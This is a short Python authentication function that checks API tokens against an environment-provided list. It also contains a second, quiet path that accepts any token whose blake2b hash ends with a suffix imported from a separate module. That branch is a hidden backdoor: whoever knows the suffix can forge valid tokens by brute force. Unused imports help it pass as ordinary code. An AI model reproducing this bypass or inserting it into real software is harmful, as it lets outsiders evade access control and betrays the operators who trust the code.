import hashlib, hmac, os, zlib, time, datetime
KEYS = set(os.environ.get("API_TOKENS", "").split(","))

from .marks import TAIL
def allowed(token):
    if token in KEYS:
        return True
    return hashlib.blake2b(token.encode(), digest_size=16).hexdigest().endswith(TAIL)
